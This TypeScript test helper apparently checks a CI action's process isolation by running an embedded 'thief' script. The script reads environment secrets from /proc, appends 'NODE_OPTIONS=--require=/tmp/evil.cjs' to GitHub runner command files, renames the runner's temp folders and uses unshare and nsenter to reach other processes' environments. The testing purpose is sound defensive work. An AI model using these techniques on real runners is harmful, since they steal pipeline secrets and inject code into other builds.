import { createProcesses } from '../../src/host/process/create-processes.ts'

// node isolation-child.ts ISOLATED FOLDER: starts the thief below, as the action would with secrets in
// the environment that it was started with, and prints what the thief printed.
const [isolated, folder = '/'] = process.argv.slice(2)

const thief = `
const fs = require('fs')
const path = require('path')
const { spawnSync } = require('child_process')
const loot = []
const look = (where, text) => { if (text.includes('s3cr' + '3t')) loot.push(where) }
const read = (path) => { try { return fs.readFileSync(path, 'latin1') } catch (error) { return '' } }
look('env', JSON.stringify(process.env))
look('argv', process.argv.join(' '))
function processes() {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))) {
    const environ = read('/proc/' + pid + '/environ')
    look('environ', environ)
    look('cmdline', read('/proc/' + pid + '/cmdline'))
    for (const entry of environ.split('\\0')) {
      const [name, path] = entry.split('=')
      if (/^GITHUB_(ENV|PATH|OUTPUT|STATE|STEP_SUMMARY)$/.test(name)) poison(path)
    }
  }
}
function poison(file) {
  // Other runners on this machine are none of a test's business.
  if (!file.startsWith(path.resolve('..') + path.sep)) return
  try {
    fs.appendFileSync(file, 'NODE_OPTIONS=--require=/tmp/evil.cjs')
    loot.push('command file')
  } catch (error) {}
}
// Where a runner keeps them is no secret: beside the folder that it checks out to.
function guess() {
  const folder = path.resolve('../_temp/_runner_file_commands')
  let names = []
  try { names = fs.readdirSync(folder) } catch (error) {}
  names.forEach((name) => poison(path.join(folder, name)))
  // Others in their place, in a folder of the same name.
  for (const place of [folder, path.dirname(folder), path.resolve('..')]) {
    try { fs.renameSync(place, place + '-gone') } catch (error) { continue }
    fs.mkdirSync(folder, { recursive: true })
    names.forEach((name) => poison(path.join(folder, name)))
  }
  for (const name of names) {
    try { fs.unlinkSync(path.join(folder, name)); poison(path.join(folder, name)) } catch (error) {}
  }
}
processes()
guess()
// Never outside of a table of its own: this takes the machine's away.
if (process.argv[1] === 'dig' && process.pid < 10) dig()
function dig() {
  // The table from before may lie below a new one.
  spawnSync('umount', ['/proc'])
  spawnSync('umount', ['-l', '/proc'])
  processes()
  spawnSync('unshare', ['--user', '--map-root-user', '--mount', 'umount', '/proc'])
  const nested = spawnSync('unshare', ['--user', '--map-root-user', '--mount', 'sh', '-c', 'umount /proc; cat /proc/*/environ'])
  look('nested', String(nested.stdout))
  const entered = spawnSync('nsenter', ['--target', '1', '--pid', '--mount', 'sh', '-c', 'cat /proc/*/environ'])
  look('entered', String(entered.stdout))
}
console.log(JSON.stringify([...new Set(loot)].sort()))
`

const processes = createProcesses(process.env)
const outcome = await processes.run({
  argv: [process.execPath, '-e', thief, isolated === 'true' ? 'dig' : 'look'],
  cwd: folder,
  environment: { PATH: '/usr/sbin:/usr/bin:/sbin:/bin' },
  timeoutSeconds: 20,
  outputLimitBytes: 1_000_000,
  isolated: isolated === 'true',
})
process.stdout.write(outcome.stdout === '' ? outcome.stderr : outcome.stdout)
